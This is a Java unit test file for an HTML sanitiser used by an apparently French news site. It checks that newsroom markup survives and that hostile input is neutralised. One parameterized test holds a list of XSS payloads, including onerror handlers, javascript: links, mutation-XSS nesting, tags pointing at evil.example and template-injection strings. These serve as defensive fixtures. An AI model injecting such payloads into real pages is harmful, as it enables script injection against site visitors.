package org.kiosque.articles.internal;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class BodyPolicyTest {

    /** Everything that may ever come out, and nothing else. */
    private static final Pattern MARKUP = Pattern.compile(
            "</?(p|h[234]|ul|ol|li|blockquote|pre|figure|figcaption|picture|table|caption|thead|tbody|tr|em|strong|u|s|sub|sup|code|span|div)>"
            + "|<(br|hr|hr class=\"cut\") />|<(th|td)( (colspan|rowspan|scope)=\"\\w+\")*>|</(th|td|a)>"
            + "|<ol( start=\"\\d+\"| class=\"footnotes\")>|<li id=\"fn-\\d+\">|<span (lang=\"[\\w-]+\"|class=\"credit\")>"
            + "|<div class=\"(gallery|table-scroll)\"( (role|aria-label|tabindex)=\"[^\"<>]*\")*>"
            + "|<figure class=\"embed\" data-provider=\"[^\"<>]*\">"
            + "|<a href=\"(https?:|mailto:|[^\":]*[/?#]|[^\":]*\")[^\"<>]*\"? rel=\"noopener\">"
            + "|<a href=\"https?:[^\"<>]*\" rel=\"noopener noreferrer\" target=\"_blank\">"
            + "|<a href=\"#fn-\\d+\" id=\"fnref-\\d+\" role=\"doc-noteref\">|<a href=\"#fnref-\\d+\" role=\"doc-backlink\">"
            + "|<source type=\"image/webp\" srcset=\"(/media/[\\w/-]+\\.webp \\d+w(, )?)+\" sizes=\"[^\"<>]*\" />"
            + "|<img src=\"/media/\\d+/\\w+-\\d+\\.jpg\" srcset=\"(/media/[\\w/-]+\\.jpg \\d+w(, )?)+\" sizes=\"[^\"<>]*\""
            + "( (width|height)=\"\\d+\")* alt=\"[^\"<>]*\" loading=\"lazy\" decoding=\"async\" />"
            + "|<!-- -->");

    @ParameterizedTest
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=/ok.png onerror=alert(1)>",
        "<img src='javascript:alert(1)'>",
        "<svg onload=alert(1)><animate onbegin=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#106;ava&#x09;script:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=/x onclick=alert(1) style=color:red target=_blank>x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=x><embed src=x>",
        "<form action=//evil.example><input name=p type=password><button formaction=javascript:alert(1)>x",
        "<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.example>",
        "<p style=\"background:url(//evil.example)\" class=admin id=login>x</p>",
        "<td background=//evil.example onmouseover=alert(1)>x",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<plaintext><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<video poster=//evil.example><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<p data-list=bullet class=gallery>x<div class=ql-indent-1>y</div>",
        "<img src=/media/1/2-640.jpg srcset='//evil.example/a.jpg 1x' onload=alert(1) alt='\"><script>'>",
        "<picture><source srcset=//evil.example/a.webp><img src=/media/1/2-640.jpg></picture>",
        "<figure class=embed data-provider='\"onx=1'><a href='https://x.com/\"><script>' target=_top>x</a></figure>",
        "<figure class=embed><a href=javascript:alert(1)>x</a></figure>",
        "<figure class=embed><iframe src=https://www.youtube.com/embed/x></iframe></figure>",
        "<ol class=footnotes><li id='fn-1'><script>alert(1)</script>x<a href=javascript:alert(1)>y</a></ol><sup><a href=#fn-1 onclick=alert(1)>1</a></sup>",
        "<ol class='footnotes admin'><li id=login>x</ol><span lang='fr\" onx=1'>x</span><hr class='cut x' id=y>",
        "<table><caption>\"><img src=x onerror=alert(1)></caption><tr><td colspan=99999>x</table>",
        "{{constructor.constructor('alert(1)')()}}",
        "#{facesContext.externalContext} ${7*7}",
        "<p>a\u0000b\u0008</p><\u0000script>alert(1)</script>",
    })
    void onlyWhatIsAllowedComesOut(String hostile) {
        String html = BodyPolicy.sanitise(hostile);

        String text = MARKUP.matcher(html).replaceAll("");
        assertAll(() -> assertTrue(text.indexOf('<') < 0 && text.indexOf('>') < 0 && html.indexOf('\0') < 0, html),
                () -> assertEquals(html, BodyPolicy.sanitise(html)));
    }

    @Test
    void whatTheNewsroomWritesStays() {
        String written = """
                <h2>Titre</h2>
                <p>Un <strong>mot</strong>, <em>deux</em>, <u>trois</u>, <s>quatre</s>, H<sub>2</sub>O, <span lang="en">the fog</span>, <code>a &lt; b</code> et <a href="https://example.org/a?b&#61;c" rel="noopener">un lien</a>.</p>
                <ul><li>un<ol><li>dedans</li></ol></li><li>deux</li></ul>
                <ol start="3"><li><p>trois</p><p>encore</p></li></ol>
                <blockquote>Cité.</blockquote>
                <blockquote><p>Cité.</p><p>Deux fois.</p></blockquote>
                <pre>  a
                  b</pre>
                <hr />
                <hr class="cut" />
                <div class="table-scroll" role="region" aria-label="Votes" tabindex="0"><table><caption>Votes</caption><thead><tr><th scope="col">Pour</th><th scope="col"></th></tr></thead><tbody><tr><th scope="row">Ville</th><td colspan="2">12</td></tr></tbody></table></div>
                <figure class="embed" data-provider="YouTube"><a href="https://youtu.be/x?t&#61;1" rel="noopener noreferrer" target="_blank">La mer</a><figcaption>YouTube, youtu.be</figcaption></figure>
                <p>Dit-on<sup><a href="#fn-1" id="fnref-1" role="doc-noteref">1</a></sup>.</p>
                <ol class="footnotes"><li id="fn-1">On le <em>dit</em>. <a href="#fnref-1" role="doc-backlink">↩</a></li></ol>""";

        assertEquals(written, BodyPolicy.sanitise(written));
    }

    @Test
    void theTitleOfThePageIsTheOnlyHeadingOfItsRank() {
        assertEquals("<h2>Un</h2>\n<h2>Deux</h2>\n<h4>Six</h4>", BodyPolicy.sanitise("<h1>Un</h1><h2>Deux</h2><h6>Six</h6>"));
    }

    @Test
    void linesWithoutTextGo() {
        assertEquals("<p>a</p>\n<p>b</p>", BodyPolicy.sanitise(
                "<p><br></p><p>a<br></p><p>&nbsp;</p><p>\ufeff</p><h2><strong> </strong></h2><ul><li><br></li></ul><p>b</p><p></p>"));
    }

    @Test
    void plainTextAndDivisionsBecomeParagraphs() {
        assertEquals("<p>un\ndeux</p>\n<p>trois <strong>et</strong> quatre</p>", BodyPolicy.sanitise("un\ndeux\n\ntrois <b>et</b> quatre"));
        assertEquals("<p>a</p>\n<p>b</p>\n<p>c</p>\n<p>d</p>",
                BodyPolicy.sanitise("<section>a<div>b</div></section><span>c</span><p>d</p>"));
    }

    @Test
    void aListBetweenTwoItemsBelongsToTheFirst() {
        assertEquals("<ul><li>un<ul><li>dedans</li></ul></li><li>deux</li></ul>",
                BodyPolicy.sanitise("<ul><li>un</li><ul><li>dedans</li></ul><li>deux</li></ul>"));
    }

    @Test
    void anItemOfOneLineIsBare() {
        assertEquals("<ul><li>un<ol><li>dedans</li></ol></li></ul>",
                BodyPolicy.sanitise("<ul><li><p>un</p><ol><li><p>dedans</p></li></ol></li><li><p></p></li></ul>"));
    }

    @Test
    void codeIsCharactersOnly() {
        assertEquals("<pre>if (a)\n\n  b();</pre>\n<p><code>a b</code></p>",
                BodyPolicy.sanitise("<pre><code class=x>if (a)<br>\n  <b>b</b>();\n</code></pre><p><code>a <em>b</em></code></p>"));
    }

    @Test
    void rowsOfHeadingsAtTheTopAreTheHead() {
        assertEquals("<div class=\"table-scroll\" tabindex=\"0\"><table><thead><tr><th scope=\"col\">a</th></tr></thead>"
                + "<tbody><tr><td>b</td></tr><tr><th scope=\"row\">c</th></tr></tbody></table></div>",
                BodyPolicy.sanitise("<table><tbody><tr><th scope=row><p>a</p></th></tr><tr><td>b</td></tr><tr></tr><tr><th>c</th></tr></tbody></table>"));
        assertEquals("", BodyPolicy.sanitise("<table><tr><td></td></tr></table>"));
    }

    @Test
    void theCutIsMarkedOnceAndBetweenBlocks() {
        assertEquals("<p>a</p>\n<ul><li>b</li></ul>\n<hr class=\"cut\" />\n<p>c</p>",
                BodyPolicy.sanitise("<p>a</p><ul><li>b<hr class=cut></li></ul><div><hr class=cut><p>c</p></div><hr class=cut>"));
    }

    @Test
    void tagSoupSettlesAtOnce() {
        String[] soup = {"<p>", "</p>", "<div>", "</div>", "<h1>", "<ul>", "<ol class=footnotes>", "<li id=fn-1>", "<li id=fn-2>", "<li>", "</ol>", "</ul>", "<a href=#fn-1>", "<sup><a href=#fn-2>2</a></sup>", "</sup>",
            "<div class=gallery>", "<figure class=embed>", "<a href=https://youtu.be/x>", "<span class=credit>", "<span lang=en>", "</span>", "<hr class=cut>", "<th>", "<thead>",
            "<blockquote>", "<pre>", "<figure>", "<figcaption>", "</figure>", "<table>", "<tr>", "<td>", "<caption>", "</table>",
            "<a href=/x>", "</a>", "<b>", "</b>", "<code>", "<br>", "<hr>", "<img src=/media/1/2-640.jpg>", "<img src=/media/2/3-9.jpg width=1200 height=3 alt=x>", "<svg>", "<select>", "<script>", "</script>",
            "a", " ", "\n\n", "{", "&lt;", "<", "&nbsp;", "\"", "&amp;lt;"};
        var random = new Random(1);
        for (int n = 0; n < 20_000; n++) {
            var text = new StringBuilder();
            for (int i = random.nextInt(12); i >= 0; i--) text.append(soup[random.nextInt(soup.length)]);
            String html = BodyPolicy.sanitise(text.toString());
            assertEquals(html, BodyPolicy.sanitise(html), text.toString());
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"<ul><li>x", "<blockquote><ul><li>x", "<table><tr><td>x", "<div>x", "<b>x", "<figure>x", "<div class=gallery><figure><img src=/media/1/2-640.jpg>"})
    void depthIsNoWeapon(String deeper) {
        String html = BodyPolicy.sanitise("<p>Avant.</p>" + deeper.repeat(10_000) + "<p>Après.</p>");

        assertTrue(html.startsWith("<p>Avant.</p>\n"), html);
    }
}
